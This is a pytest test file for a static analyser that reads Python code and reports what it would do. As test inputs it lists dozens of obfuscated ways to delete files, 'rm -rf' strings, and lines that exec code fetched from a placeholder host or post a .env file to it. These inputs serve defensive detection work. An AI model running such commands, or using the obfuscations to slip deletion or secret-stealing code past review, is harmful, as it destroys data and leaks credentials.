"""The reader of Python sees what a program would do, however it is spelled, and says nothing of the rest."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from checkrail.model import HOLE, SOME
from tests.readers.code_reading import reading, says

DELETES = {
    "plain": "import os; os.remove('x')",
    "aliased": "from os import remove as r; r('x')",
    "star": "from os import *\nremove('x')",
    "getattr": "import os; getattr(os, 're' + 'move')('x')",
    "dunder import": "__import__('os').remove('x')",
    "import_module": "import importlib; importlib.import_module('os').unlink('x')",
    "module dict": "import os; os.__dict__['remove']('x')",
    "sys.modules": "import sys, os; sys.modules['os'].remove('x')",
    "globals": "import os; globals()['os'].remove('x')",
    "through another module": "import shutil; shutil.os.remove('x')",
    "list item": "import os; [os.remove][0]('x')",
    "dict item": "import os; d = {'a': os.remove}; d['a']('x')",
    "lambda": "import os; (lambda f: f('x'))(os.remove)",
    "map": "import os; list(map(os.remove, ['x']))",
    "partial": "import os, functools; functools.partial(os.remove, 'x')()",
    "attrgetter": "import os, operator; operator.attrgetter('remove')(os)('x')",
    "methodcaller": "import os, operator; operator.methodcaller('remove', 'x')(os)",
    "replaced function": "import os, json; json.dumps = os.remove; json.dumps('x')",
    "posix": "import posix; posix.unlink('x')",
    "path": "from pathlib import Path; Path('x').unlink()",
    "unbound path method": "from pathlib import Path; Path.unlink(Path('x'))",
    "eval": "eval(\"__import__('os').remove('x')\")",
    "exec with variables": "import os; name = 'x'; exec('os.remove(name)')",
    "base64": "import os, base64; exec(base64.b64decode('b3MucmVtb3ZlKCd4Jyk='))",
    "compile": "import os; exec(compile(\"os.remove('x')\", 'f', 'exec'))",
    "chr": "import os; os.remove(''.join(chr(c) for c in [120]))",
    "format": "import os; os.remove('{}'.format('x'))",
    "percent": "import os; os.remove('%s' % 'x')",
    "f-string": "import os; n = 'x'; os.remove(f'{n}')",
    "join": "import os; os.remove(os.path.join('.', 'x'))",
    "loop": "import os\nfor n in ['x']:\n    os.remove(n)",
    "comprehension": "import os; [os.remove(n) for n in ('x',)]",
    "function": "import os\ndef f(p):\n    os.remove(p)\nf('x')",
    "method": "import os\nclass A:\n    def go(self, p):\n        os.remove(p)\nA().go('x')",
    "decorated": "import os\ndef d(f):\n    os.remove('x')\n    return f\n@d\ndef g(): pass",
    "thread": "import os, threading; threading.Thread(target=os.remove, args=('x',)).start()",
    "walrus": "import os; (p := 'x') and os.remove(p)",
    "after an exception": "import os\ntry:\n    p = 'x'\n    f()\n    p = 'x'\nexcept Exception:\n    os.remove(p)",
    "match": "import os\nmatch v:\n    case 1:\n        os.remove('x')",
    "async": "import os\nasync def f():\n    os.remove('x')",
    "never called": "import os\ndef f():\n    os.remove('x')",
}


@pytest.mark.parametrize("code", DELETES.values(), ids=DELETES.keys())
def test_a_deletion_is_seen_however_it_is_spelled(code: str) -> None:
    """Each spelling deletes /w/x, and nothing of it is unread."""
    found = says("python", code)
    assert "delete /w/x" in found
    assert "unread" not in found


HARMLESS = (
    "import json, sys; print(json.load(sys.stdin)['n'])",
    "print('os.system(\"rm -rf /\")')",
    "import math; print(math.pi ** 2)",
    "import time; time.sleep(2)",
    "try:\n    import numpy\n    print(numpy.__version__)\nexcept ImportError:\n    print('none')",
    "from mypackage.module import thing; print(thing(3))",
    "import os; print(os.environ['HOME'], os.getcwd(), os.listdir('.'))",
    "import os; print('set' if os.environ.get('API_KEY') else 'not set')",
    "x = [1, 2, 3]\nx.remove(2)\nprint(x)",
    "import re\nn = 0\nfor line in text.splitlines():\n    if re.match('a', line):\n        n += 1\nprint(n)",
    "s = {1, 2}; s.discard(1); d = {'a': 1}; d.pop('a'); del d",
    "import unittest.mock as m\nwith m.patch('os.remove') as r:\n    r('x')",
    "df = load(); df.rename(columns={'a': 'b'}).drop('c', axis=1)",
    "class Machine:\n    def system(self, c): return c\nMachine().system('rm -rf /')",
    "def remove(x): return x\nremove('/')",
    "from datetime import datetime; print(datetime.now().replace(hour=1))",
    "import sys\nsys.path.insert(0, 'src')\nimport project\nprint(project.run([1, 2]))",
    "import hashlib; print(hashlib.sha256(b'x').hexdigest())",
    "exec('x = 1 + 1')",
    "import ast, inspect; print(inspect.getsource(ast.parse))",
    "import logging; logging.basicConfig(level=getattr(logging, name.upper()))",
    "rows = []\nfor a in data:\n    row = []\n    for b in a:\n        row = row + [b]\n        row.append(str(b) * 2)\n    rows.append(row)\nprint(rows)",
    "node = tree\nwhile node.parent:\n    node = node.parent\nprint(node)",
)


@pytest.mark.parametrize("code", HARMLESS)
def test_everyday_code_has_no_effect_and_nothing_unread(code: str) -> None:
    """Near misses: names of destructive things that are not them, and plain computing."""
    assert [line for line in says("python", code) if line != "opaque"] == []


UNREAD = (
    "exec(input())",
    "import os; getattr(os, name)('x')",
    "print(().__class__.__base__.__subclasses__())",
    "import ctypes; ctypes.CDLL(None).system(b'ls')",
    "import code; code.interact()",
    "import marshal; exec(marshal.loads(data))",
    "print 'x'; import os",
    "!rm -rf /",
    "import os; f(os)",
    "import logging; getattr(logging, name)('x')",
    "import pickle, os\nclass P:\n    def __reduce__(self):\n        return (getattr(os, n), ('x',))\npickle.loads(pickle.dumps(P()))",
)


@pytest.mark.parametrize("code", UNREAD)
def test_what_cannot_be_followed_is_unread(code: str) -> None:
    """Code made at run time, introspection and other grammars are never taken as harmless."""
    assert "unread" in says("python", code)


@pytest.mark.parametrize(
    ("code", "path"),
    [
        ("import shutil; shutil.rmtree(unknown)", HOLE),
        ("import shutil, sys; shutil.rmtree(sys.argv[1])", f"/w/{HOLE}"),
        ("import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "/home/dev"),
        ("import shutil, pathlib; shutil.rmtree(pathlib.Path.home())", "/home/dev"),
        ("import shutil, os; shutil.rmtree(os.environ['HOME'] + '/x')", "/home/dev/x"),
        ("import shutil, tempfile; shutil.rmtree(tempfile.mkdtemp())", f"/tmp/{SOME}"),
        ("import shutil, os; os.chdir('/opt'); shutil.rmtree('a')", "/opt/a"),
        ("import shutil; p = '/'\nfor i in x: p = p + 'a'\nshutil.rmtree(p)", "/"),
        ("import shutil, pathlib; shutil.rmtree(pathlib.Path(__file__).parent / 'x')", f"{HOLE}/x"),
    ],
)
def test_targets_are_followed(code: str, path: str) -> None:
    """A path is resolved as far as it can be known; the rest is a hole."""
    found = [effect.target.value for effect in reading("python", code).effects if effect.recursive]
    assert path in found or (path.startswith("/w/") and HOLE in found)


@pytest.mark.parametrize(
    ("code", "line"),
    [
        ("import glob, os\nfor f in glob.glob('src/*.py'): os.remove(f)", "delete /w/src/*.py"),
        ("import pathlib\nfor f in pathlib.Path('src').rglob('*.pyc'): f.unlink()", "delete /w/src/**/*.pyc"),
        ("import os\nfor f in os.listdir('src'): os.remove('src/' + f)", "delete /w/src/*"),
        (
            "import os\nfor r, _, fs in os.walk('src'):\n    for f in fs: os.remove(os.path.join(r, f))",
            "delete /w/src/**/*",
        ),
        ("import glob\nfor f in glob.glob('src/*.py'): open(f, 'w')", f"write /w/src/{SOME}.py"),
        ("import glob, subprocess\nsubprocess.run(['rm', *glob.glob('a b/*')])", "shell: rm 'a b/'* \ufffc"),
    ],
)
def test_a_listing_that_is_deleted_is_its_pattern(code: str, line: str) -> None:
    """Deleting each of a listing deletes all of it; writing each is one of its files at a time."""
    assert line in says("python", code)


def test_without_a_folder_relative_paths_start_with_a_hole() -> None:
    """Where the working directory is not known, neither is a relative path."""
    assert says("python", "open('x', 'w')", cwd=None) == [f"write {HOLE}/x"]


def test_both_branches_count() -> None:
    """A path that may be either of two is judged as both."""
    found = says("python", "import shutil\np = '/' if c else 'build'\nshutil.rmtree(p)")
    assert found == ["delete /", "delete /w/build"]


def test_shell_text_carries_folder_input_and_environment() -> None:
    """What a program gives its child is part of the shell text that goes back."""
    code = "import subprocess; subprocess.run(['sh'], input='rm -rf ~', cwd='sub', env={'PATH': '.'}, text=True)"
    (payload,) = reading("python", code).payloads
    assert payload.cwd == "/w/sub"
    assert payload.text.startswith("PATH=. sh <<")
    assert "\nrm -rf ~\n" in payload.text
    assert payload.via == ("python subprocess.run",)


def test_remote_code_is_named() -> None:
    """Running what was fetched says so, with axes that ask."""
    found = reading("python", "import urllib.request as u; exec(u.urlopen('http://a.example').read())")
    (effect,) = found.effects
    assert effect.rule == "python.remote-execute"
    assert effect.axes is not None
    assert found.unread


def test_sent_file_is_named() -> None:
    """What a request carries is told apart: nothing, a literal, a file."""
    code = "import requests; requests.post('http://a.example', data=open('.env').read())"
    found = reading("python", code)
    assert ("data", "file") in found.payloads[0].options
    assert [effect.target.value for effect in found.effects] == ["/w/.env"]


@pytest.mark.parametrize(
    "code",
    [
        "(" * 5000,
        "[" * 3000 + "]" * 3000,
        "x = " + "-" * 20000 + "1",
        "1" + "+1" * 60000,
        "x" + ".a" * 4000,
        "def f():\n f()\nf()",
        "\n".join(f"{'  ' * i}for a{i} in x:" for i in range(18)) + "\n" + "  " * 18 + "pass",
        "f = lambda g: g(g)\nf(f)",
        "x = 'a' * 10**9\ny = '{:>{w}}'.format('a', w=10**9)\nz = '%*d' % (10**9, 1)\nq = ('a' * 9999).replace('', 'b' * 9999)",
        "import zlib; zlib.decompress(b'x')",
        "a = []\n" + "a.append(a)\n" * 50 + "print(a)",
        "x = " + "{'a': " * 200 + "1" + "}" * 200,
        "\x00",
        "print('\ud800')",
    ],
    ids=range(14),
)
def test_hostile_text_is_answered(code: str) -> None:
    """Deep, wide, recursive and exploding programs end in a reading, not in an error."""
    reading("python", code)


WORDS = [
    "import os\n", "from pathlib import Path\n", "x", " = ", "os", ".", "remove", "(", ")", "'a'", "f'{x}'", "[", "]", ",", "{", "}", ":", "\n",
    "    ", "def f(", "class A:", "lambda x", "for x in ", "if ", "else", "return ", "yield ", "await ", "exec", "eval", "getattr", "+", "%", "/",
    "*", "**", "Path", "open", "with ", " as ", "try:", "except:", "global x", "match x:", "case ", "import ", "while ", "b'\\x00'", "1", "\\",
]  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(WORDS), max_size=40).map("".join))
def test_any_text_is_answered(text: str) -> None:
    """Arbitrary text made of Python's words never raises."""
    reading("python", text)
